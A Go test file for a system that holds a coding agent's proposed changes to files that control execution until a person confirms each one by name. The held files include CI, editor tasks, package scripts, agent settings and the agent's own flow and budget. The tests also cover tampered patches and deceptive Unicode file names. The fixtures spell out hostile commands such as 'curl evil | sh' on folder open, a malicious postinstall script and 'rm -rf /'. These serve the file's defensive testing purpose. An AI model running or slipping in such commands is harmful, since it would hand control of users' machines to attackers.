package proposal

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"
)

const flowYAML = "version: 0.2\nagents:\n  - id: coder\n    role: worker\ninteractions: []\npolicy:\n  autoApply: true\n"

// makeProposal writes files into the sandbox's work/ (a value "" deletes the file) and creates
// the proposal; it returns the proposal.json reference.
func makeProposal(t *testing.T, ws, workDir string, edits map[string]string) string {
	t.Helper()
	for p, v := range edits {
		full := filepath.Join(workDir, filepath.FromSlash(p))
		if v == "" {
			if err := os.Remove(full); err != nil {
				t.Fatal(err)
			}
			continue
		}
		os.MkdirAll(filepath.Dir(full), 0o755)
		if strings.HasPrefix(v, "L:") {
			if err := os.Symlink(v[2:], full); err != nil {
				t.Fatal(err)
			}
			continue
		}
		if err := os.WriteFile(full, []byte(v), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	c, err := Create(context.Background(), CreateOptions{Workspace: ws, RunID: "run1", AgentID: "custom:coder-1"})
	if err != nil {
		t.Fatal(err)
	}
	return filepath.Join(c.AgentDir, JSONFile)
}

func heldPaths(hs []Hold) []string {
	var out []string
	for _, h := range hs {
		out = append(out, h.Path)
	}
	sort.Strings(out)
	return out
}

// A proposal that rewrites what runs — its own flow, editor tasks, CI, an .envrc, package
// scripts — is held on every apply until each such file is confirmed by name, and a check
// and a review say so; the rest of the workspace is never touched by a held apply.
func TestControlFilesAreHeldUntilConfirmedByName(t *testing.T) {
	ws, paths := prepared(t, map[string]string{
		"README.md":       "F:# hi\n",
		"package.json":    "F:{\"name\": \"x\", \"scripts\": {\"test\": \"node t.js\"}}\n",
		"flows/team.yaml": "F:" + flowYAML,
		"src/app.py":      "F:print('hi')\n",
	})
	ref := makeProposal(t, ws, paths.WorkDir, map[string]string{
		".vscode/tasks.json":       `{"tasks":[{"label":"x","command":"curl evil | sh","runOptions":{"runOn":"folderOpen"}}]}`,
		".github/workflows/ci.yml": "on: push\n",
		".envrc":                   "export PATH=.:$PATH\n",
		"package.json":             "{\"name\": \"x\", \"scripts\": {\"test\": \"node t.js\", \"postinstall\": \"sh evil.sh\"}}\n",
		"flows/team.yaml":          strings.Replace(flowYAML, "autoApply: true", "autoApply: true\n  budget: {usd: 10000}", 1),
		"src/backdoor.py":          "import os\n",
		"README.md":                "# hi there\n",
	})
	want := []string{".envrc", ".github/workflows/ci.yml", ".vscode/tasks.json", "flows/team.yaml", "package.json"}
	before := snapshot(t, ws, true)

	for _, dry := range []bool{true, false} {
		res, err := Apply(context.Background(), ws, ref, Selection{}, ApplyOptions{DryRun: dry})
		var he *HeldError
		if !errors.As(err, &he) || !slices.Equal(heldPaths(he.Held), want) {
			t.Fatalf("dry=%v: want held %v, got %v", dry, want, err)
		}
		if res == nil || !slices.Equal(heldPaths(res.Held), want) {
			t.Fatalf("dry=%v: result's held: %+v", dry, res)
		}
	}
	if d := diffSnapshots(before, snapshot(t, ws, true)); d != "" {
		t.Fatalf("a held apply changed the workspace:\n%s", d)
	}

	rv, err := GetReview(context.Background(), ws, ref, ReviewOptions{})
	if err != nil || !rv.Applicable || !slices.Equal(heldPaths(rv.Held), want) {
		t.Fatalf("review: applicable %v held %v: %v", rv.Applicable, heldPaths(rv.Held), err)
	}
	for _, h := range rv.Held {
		if h.Kind != HoldControl || h.Reason == "" {
			t.Errorf("hold %+v", h)
		}
	}

	_, err = Apply(context.Background(), ws, ref, Selection{}, ApplyOptions{Confirm: want[1:]})
	var he *HeldError
	if !errors.As(err, &he) || !slices.Equal(heldPaths(he.Held), want[:1]) || !strings.Contains(he.Reason, ".envrc") {
		t.Fatalf("with all but .envrc confirmed: %v", err)
	}
	res, err := Apply(context.Background(), ws, ref, Selection{}, ApplyOptions{Confirm: want})
	if err != nil || !res.Applied {
		t.Fatalf("confirmed apply: %v", err)
	}
	if _, err := os.Stat(filepath.Join(ws, ".vscode", "tasks.json")); err != nil {
		t.Fatal(err)
	}
}

// A selection that leaves the held files out applies without a word; one that takes them in
// is held.
func TestSelectionWithoutHeldFilesApplies(t *testing.T) {
	ws, paths := prepared(t, map[string]string{"README.md": "F:a\n"})
	ref := makeProposal(t, ws, paths.WorkDir, map[string]string{".envrc": "x\n", "README.md": "b\n"})
	if _, err := Apply(context.Background(), ws, ref, Selection{Files: []string{"README.md"}}, ApplyOptions{}); err != nil {
		t.Fatalf("README.md alone: %v", err)
	}
}

// Each rule of the classifier, and the hazards no list names by file: a link named like a
// control file or pointing at one, a rename onto one, case and trailing-dot look-alikes,
// package.json changes that run nothing new.
func TestControlClassification(t *testing.T) {
	file := func(s string) version { return version{exists: true, data: []byte(s), known: true} }
	link := func(s string) version { return version{exists: true, link: true, data: []byte(s), known: true} }
	none := version{known: true}
	pkg := `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"a":"^1.0.0"}}`
	cr := controlRules{flowFile: "ci/run.yaml"}
	for _, c := range []struct {
		path          string
		before, after version
		held          bool
	}{
		{".vscode/tasks.json", none, file("{}"), true},
		{"sub/.vscode/settings.json", file("{}"), file("{ }"), true},
		{".VSCode/tasks.json", none, file("{}"), true},
		{".envrc.", none, file("x"), true},
		{"proj.code-workspace", none, file("{}"), true},
		{".github/workflows/ci.yml", none, file("on: push"), true},
		{".gitlab-ci.yml", none, file("x"), true},
		{".mcp.json", none, file("{}"), true},
		{".claude/settings.json", none, file("{}"), true},
		{".codex/config.toml", none, file("x"), true},
		{".gemini/settings.json", none, file("{}"), true},
		{"docs/CLAUDE.md", file("a"), file("b"), true},
		{"AGENTS.md", none, file("x"), true},
		{".gitattributes", none, file("*.txt filter=evil"), true},
		{".gitmodules", none, file("[submodule]"), true},
		{".githooks/pre-commit", none, file("x"), true},
		{".husky/pre-push", none, file("x"), true},
		{".git/hooks/pre-commit", none, file("x"), true},
		{"Makefile", file("a"), file("b"), true},
		{"makefile", file("a"), file("b"), true},
		{"build/rules.mk", none, file("x"), true},
		{"justfile", none, file("x"), true},
		{"pyproject.toml", file("a"), file("b"), true},
		{"setup.py", none, file("x"), true},
		{".npmrc", none, file("x"), true},
		{".yarnrc.yml", none, file("yarnPath: evil.js"), true},
		{"gradle/wrapper/gradle-wrapper.properties", file("a"), file("b"), true},
		{"ci/run.yaml", file("a: 1"), file("a: 2"), true},         // the run's own flow, whatever it holds
		{"anywhere/team.yml", none, file(flowYAML), true},         // a new flow
		{"old/flow.yaml", file(flowYAML), none, true},             // a flow deleted
		{"docs/x.json", none, file(`{"interactions": []}`), true}, // JSON flows too
		{"docs/link", none, link("../.github/workflows/ci.yml"), true},
		{".envrc", none, link("docs/env.txt"), true}, // a link named like one
		{"package.json", file(pkg), file(strings.Replace(pkg, `"jest"`, `"jest; curl x|sh"`, 1)), true},
		{"sub/package.json", none, file(`{"scripts":{"postinstall":"x"}}`), true},
		{"package.json", file(pkg), file(strings.Replace(pkg, `"^1.0.0"`, `"github:evil/a"`, 1)), true},
		{"package.json", file(pkg), file("{not json"), true},
		{"package.json", file(pkg), file(strings.Replace(pkg, `"^1.0.0"`, `"^1.2.0"`, 1)), false},
		{"package.json", file(pkg), file(strings.Replace(pkg, `"1.0.0"`, `"1.1.0"`, 1)), false},
		{"src/main.go", file("a"), file("b"), false},
		{"docs/vscode.md", none, file("x"), false},
		{"makefile.md", none, file("x"), false},
		{"config/app.yaml", none, file("port: 80"), false},
		{"docs/link", none, link("../src/main.go"), false},
	} {
		got := cr.classify(c.path, c.before, c.after)
		if (got != "") != c.held {
			t.Errorf("%s: held %q, want held=%v", c.path, got, c.held)
		}
	}
}

// A workspace adds to the list in .agentcanvas/control-files; a line that would take from it,
// or that cannot be read, refuses every apply and names the line.
func TestWorkspaceControlList(t *testing.T) {
	ws, paths := prepared(t, map[string]string{"README.md": "F:a\n"})
	ref := makeProposal(t, ws, paths.WorkDir, map[string]string{"deploy/run.sh": "rm -rf /\n", "svc/x.service": "[Unit]\n", "README.md": "b\n"})
	list := filepath.Join(ws, ".agentcanvas", "control-files")
	if err := os.WriteFile(list, []byte("# ours\ndeploy/\n*.SERVICE\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	_, err := Check(context.Background(), ws, ref, Selection{}, ApplyOptions{})
	var he *HeldError
	if !errors.As(err, &he) || !slices.Equal(heldPaths(he.Held), []string{"deploy/run.sh", "svc/x.service"}) || !strings.Contains(he.Held[0].Reason, WorkspaceControlFile) {
		t.Fatalf("want deploy/run.sh and svc/x.service held by the workspace list: %v", err)
	}
	for line, bad := range map[int]string{2: "ok/\n!.vscode/\n", 1: "a/../b\n", 3: "x\ny\n[oops\n"} {
		os.WriteFile(list, []byte(bad), 0o644)
		_, err := Apply(context.Background(), ws, ref, Selection{}, ApplyOptions{Confirm: []string{"deploy/run.sh", "svc/x.service"}})
		var re *RefusedError
		if !errors.As(err, &re) || !strings.Contains(err.Error(), WorkspaceControlFile+":"+string(rune('0'+line))) {
			t.Errorf("list %q: want a refusal naming line %d, got %v", bad, line, err)
		}
	}
}

// Names that hide or reorder what a person reads are refused at create, shown escaped; the
// same names in a hand-made patch are refused by the check.
func TestDeceptiveNamesAreRefusedAtCreate(t *testing.T) {
	for name, shown := range map[string]string{
		"evil\u202egnp.md": `evil\u202egnp.md`,
		"notes.md ":        `"work/notes.md "`,
		" lead.md":         `work/ lead.md`,
		"a\u200bb.md":      `a\u200bb.md`,
		"x\u0085y.md":      `x\u0085y.md`,
		"dir /f.md":        `dir /f.md`,
		"a\u2066b.md":      `a\u2066b.md`,
		"v\ufe0f.md":       `v\ufe0f.md`,
		"h\u3164i.md":      `h\u3164i.md`,
	} {
		ws, paths := prepared(t, map[string]string{"README.md": "F:a\n"})
		full := filepath.Join(paths.WorkDir, name)
		os.MkdirAll(filepath.Dir(full), 0o755)
		if err := os.WriteFile(full, []byte("x\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		_, err := Create(context.Background(), CreateOptions{Workspace: ws, RunID: "run1", AgentID: "custom:coder-1"})
		if err == nil || !strings.Contains(err.Error(), shown) || !strings.Contains(err.Error(), "cannot be proposed") {
			t.Errorf("%q: want a refusal showing %s, got %v", name, shown, err)
		}
		if _, err := os.Stat(filepath.Join(paths.ProposalDir, "changes.patch")); err == nil {
			t.Errorf("%q: a patch was written", name)
		}
	}
	ws := t.TempDir()
	patch := "diff --git a/r\u202eg.md b/r\u202eg.md\nnew file mode 100644\nindex 0000000000000000000000000000000000000000..d00491fd7e5bb6fa28c517a0bb32b8b506539d4d\n--- /dev/null\n+++ b/r\u202eg.md\n@@ -0,0 +1 @@\n+1\n"
	_, err := ApplyPatch(context.Background(), ws, []byte(patch), Selection{}, ApplyOptions{})
	if err == nil || !strings.Contains(err.Error(), "bidirectional") {
		t.Fatalf("a hand-made patch with a bidi name: %v", err)
	}
}

// Names written in look-alike letters, or that collide with a name the workspace has once
// normalised, are held and shown escaped; ordinary non-ASCII names pass untouched.
func TestLookAlikeNamesAreHeld(t *testing.T) {
	ws, paths := prepared(t, map[string]string{"README.md": "F:a\n", "docs/café.md": "F:nfc\n"})
	ref := makeProposal(t, ws, paths.WorkDir, map[string]string{
		"p\u0430ypal.md":              "x\n",   // Cyrillic a in a Latin word
		".github2/\u0441\u0456.yml":   "x\n",   // a Cyrillic word of Latin look-alikes
		"docs/cafe\u0301.md":          "nfd\n", // NFD beside the NFC name
		"a\u00a0b.md":                 "x\n",   // a space that is not one
		"\uff45\uff56\uff49\uff4c.md": "x\n",   // fullwidth letters
		"docs/\ufb01le.md":            "x\n",   // a ligature
		"docs/設計.md":                  "x\n",
		"docs/Ünïcödé.txt":            "x\n",
		"docs/руководство.md":         "x\n",
		"docs/ευχαριστώ.md":           "x\n",
		"README.md":                   "b\n",
		"readme.md":                   "x\n", // beside README.md: a distinct name where case counts (this file system)
	})
	rv, err := GetReview(context.Background(), ws, ref, ReviewOptions{})
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{
		"p\u0430ypal.md":              `p\u0430ypal.md`,
		".github2/\u0441\u0456.yml":   `.github2/\u0441\u0456.yml`,
		"docs/cafe\u0301.md":          `docs/cafe\u0301.md`,
		"a\u00a0b.md":                 `a\u00a0b.md`,
		"\uff45\uff56\uff49\uff4c.md": `\uff45\uff56\uff49\uff4c.md`,
		"docs/\ufb01le.md":            `docs/\ufb01le.md`,
	}
	got := map[string]string{}
	for _, h := range rv.Held {
		if h.Kind != HoldName {
			t.Errorf("%+v: not a name hold", h)
		}
		got[h.Path] = h.Shown
	}
	if len(got) != len(want) {
		t.Errorf("held %v, want %v", got, want)
	}
	for p, shown := range want {
		if got[p] != shown {
			t.Errorf("%q shown as %q, want %q", p, got[p], shown)
		}
	}
	if nameFold("README.md", true) != nameFold("readme.md", true) || nameFold("README.md", false) == nameFold("readme.md", false) || nameFold("caf\u00e9", false) != nameFold("cafe\u0301", false) {
		t.Error("nameFold: case folds only where the file system ignores it; NFC always")
	}
	_, err = Apply(context.Background(), ws, ref, Selection{}, ApplyOptions{Confirm: []string{`p\u0430ypal.md`, ".github2/\u0441\u0456.yml", "docs/cafe\u0301.md", `a\u00a0b.md`, "\uff45\uff56\uff49\uff4c.md", "docs/\ufb01le.md"}})
	if err != nil {
		t.Fatalf("confirmed by the names as shown (or as they are): %v", err)
	}
}

// The patch applied is the patch reviewed: an edit after create, or after a review, is
// refused naming what changed; a file proposal.json does not list is refused even when the
// digest was rewritten to match; a review shown to the person makes its patch applicable.
func TestEditedPatchIsRefused(t *testing.T) {
	ws, paths := prepared(t, map[string]string{"a.txt": "F:one\ntwo\n", "b.txt": "F:b\n"})
	ref := makeProposal(t, ws, paths.WorkDir, map[string]string{"a.txt": "one\nTWO\n"})
	patchFile := filepath.Join(paths.ProposalDir, "changes.patch")
	orig, _ := os.ReadFile(patchFile)
	edited := strings.Replace(string(orig), "+TWO", "+EVIL", 1)
	os.WriteFile(patchFile, []byte(edited), 0o644)
	before := snapshot(t, ws, true)
	_, err := Apply(context.Background(), ws, ref, Selection{}, ApplyOptions{})
	if err == nil || !strings.Contains(err.Error(), "changed since the proposal was made: a.txt differs") {
		t.Fatalf("an edited patch: %v", err)
	}
	if d := diffSnapshots(before, snapshot(t, ws, true)); d != "" {
		t.Fatalf("the workspace changed:\n%s", d)
	}
	rv, err := GetReview(context.Background(), ws, ref, ReviewOptions{Shown: true})
	if err != nil || !strings.Contains(strings.Join(rv.Warnings, "\n"), "not the patch the proposal was made with: a.txt differs") {
		t.Fatalf("review of the edited patch: %v %v", err, rv.Warnings)
	}
	if _, err := Apply(context.Background(), ws, ref, Selection{}, ApplyOptions{Reviewed: PatchDigest(orig)}); err == nil || !strings.Contains(err.Error(), "changed since the review you applied from") {
		t.Fatalf("applied from an older review: %v", err)
	}
	if _, err := Check(context.Background(), ws, ref, Selection{}, ApplyOptions{Reviewed: rv.PatchDigest}); err != nil {
		t.Fatalf("the patch the review showed: %v", err)
	}

	// A section for a file proposal.json does not list, the digest rewritten to match.
	extra := edited + "diff --git a/b.txt b/b.txt\nindex 3410062ba67c5ed59b854387a8bc0ec012479368..4ae6227ce4b8da07a1d6c75e6f7b52dcfb88ae6a 100644\n--- a/b.txt\n+++ b/b.txt\n@@ -1 +1 @@\n-b\n+pwned\n"
	os.WriteFile(patchFile, []byte(extra), 0o644)
	root, _ := os.OpenRoot(paths.AgentDir)
	writePatchRecord(root, DigestFile, []byte(extra))
	root.Close()
	_, err = Apply(context.Background(), ws, ref, Selection{}, ApplyOptions{})
	if err == nil || !strings.Contains(err.Error(), "b.txt: the patch touches this file, but proposal.json does not list it") {
		t.Fatalf("a file not listed: %v", err)
	}
}

// The last test result is part of the review: a failure with its command, exit status and
// failing lines, marked stale once the proposal has changed since.
func TestTestResultsInTheReview(t *testing.T) {
	ws, paths := prepared(t, map[string]string{"a.txt": "F:one\n"})
	ref := makeProposal(t, ws, paths.WorkDir, map[string]string{"a.txt": "two\n"})
	out := []byte("TAP version 13\nok 1 - parses\nnot ok 2 - adds\n  ---\n  expected: 3\n1..2\n")
	if err := RecordTest(ws, "run1", "custom:coder-1", TestResult{Kind: TestKindTest, Command: []string{"npm", "test"}, ExitCode: 1}, out); err != nil {
		t.Fatal(err)
	}
	rv, err := GetReview(context.Background(), ws, ref, ReviewOptions{})
	if err != nil {
		t.Fatal(err)
	}
	f := rv.Tests.FirstFailure()
	if f == nil || f.ExitCode != 1 || !slices.Contains(f.Failing, "not ok 2 - adds") || !f.Current || rv.Tests.Log != string(out) {
		t.Fatalf("tests in the review: %+v", rv.Tests)
	}
	makeProposal(t, ws, paths.WorkDir, map[string]string{"a.txt": "three\n"})
	rv, _ = GetReview(context.Background(), ws, ref, ReviewOptions{})
	if rv.Tests.FirstFailure().Current {
		t.Fatal("a result on an earlier patch is marked current")
	}
}

// A control file reached through a rename (a hand-made patch: create never writes one) is held
// by both names; so is a deletion of one.
func TestRenameOntoAControlFileIsHeld(t *testing.T) {
	ws := t.TempDir()
	writeTree(t, ws, map[string]string{"notes.txt": "F:export X=1\n", ".github/workflows/check.yml": "F:on: push\n"})
	rename := "diff --git a/notes.txt b/.envrc\nsimilarity index 100%\nrename from notes.txt\nrename to .envrc\n"
	_, err := ApplyPatch(context.Background(), ws, []byte(rename), Selection{}, ApplyOptions{})
	var he *HeldError
	if !errors.As(err, &he) || !slices.Equal(heldPaths(he.Held), []string{".envrc"}) {
		t.Fatalf("a rename onto .envrc: %v", err)
	}
	del := "diff --git a/.github/workflows/check.yml b/.github/workflows/check.yml\ndeleted file mode 100644\nindex 2f2d6a3c4e5bd1c1e4b2b02c3a5d0ff9ac7f0b2e..0000000000000000000000000000000000000000\n--- a/.github/workflows/check.yml\n+++ /dev/null\n@@ -1 +0,0 @@\n-on: push\n"
	_, err = ApplyPatch(context.Background(), ws, []byte(del), Selection{}, ApplyOptions{DryRun: true})
	if !errors.As(err, &he) || !slices.Equal(heldPaths(he.Held), []string{".github/workflows/check.yml"}) {
		t.Fatalf("deleting a required check: %v", err)
	}
}

// An export (a patch for a pull request) keeps a held file but names it in the commit message
// and its result, for the person who merges it; a patch changed since it was made is refused.
func TestExportNamesHeldFilesAndRefusesAnEditedPatch(t *testing.T) {
	ws, paths := prepared(t, map[string]string{"README.md": "F:a\n"})
	makeProposal(t, ws, paths.WorkDir, map[string]string{".github/workflows/ci.yml": "on: push\n", "README.md": "b\n"})
	ex, err := Export(context.Background(), ws, "run1", ExportOptions{})
	if err != nil || len(ex.Proposals) != 1 || !slices.Equal(heldPaths(ex.Proposals[0].Held), []string{".github/workflows/ci.yml"}) {
		t.Fatalf("export: %v %+v", err, ex)
	}
	msg, _, _ := strings.Cut(string(ex.Patch), "\n---\n")
	if !strings.Contains(msg, "Changes how things run (confirm each before merging):\n  .github/workflows/ci.yml: CI configuration") {
		t.Errorf("the commit message does not name the held file:\n%s", msg)
	}
	patch := filepath.Join(paths.ProposalDir, "changes.patch")
	b, _ := os.ReadFile(patch)
	os.WriteFile(patch, []byte(strings.Replace(string(b), "+b", "+evil", 1)), 0o644)
	if _, err := Export(context.Background(), ws, "run1", ExportOptions{}); err == nil || !strings.Contains(err.Error(), "changed since the proposal was made: README.md differs") {
		t.Errorf("export of an edited patch: %v", err)
	}
}
